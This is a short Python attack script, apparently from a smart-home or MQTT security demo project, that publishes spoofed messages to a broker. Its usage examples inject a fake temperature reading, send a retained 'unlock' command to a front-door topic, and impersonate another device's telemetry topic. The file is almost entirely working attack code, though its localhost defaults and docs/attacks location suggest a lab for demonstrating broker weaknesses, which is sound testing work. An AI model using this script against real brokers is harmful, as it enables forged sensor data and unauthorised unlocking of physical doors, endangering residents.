r"""Attack: publish as somebody else; a false reading, or an unlock that the broker keeps.

    python docs/attacks/poison.py --port 1884 home/kitchen/telemetry '{"temperature": 99}'
    python docs/attacks/poison.py --port 1884 --retain home/front-door/commands unlock
    python docs/attacks/poison.py --port 1883 --username d... --password ... \
        gatehouse/front-door-x7k2/telemetry '{"temperature": 99}'

Whether it worked is seen at the victim: a broker may confirm a message that it throws away.
"""

import argparse

from paho.mqtt.client import Client
from paho.mqtt.enums import CallbackAPIVersion


def main() -> None:
    """Send one message with QoS 1 and wait for the broker's word."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=1884)
    parser.add_argument("--username", help="the attacker's own device")
    parser.add_argument("--password")
    parser.add_argument("--retain", action="store_true", help="so that later listeners get it too")
    parser.add_argument("topic")
    parser.add_argument("payload")
    options = parser.parse_args()

    client = Client(CallbackAPIVersion.VERSION2)
    if options.username:
        client.username_pw_set(options.username, options.password)
    client.connect(options.host, options.port)
    client.loop_start()
    sent = client.publish(options.topic, options.payload, qos=1, retain=options.retain)
    sent.wait_for_publish(5)
    print("confirmed" if sent.is_published() else "not confirmed")
    client.disconnect()
    client.loop_stop()


main()
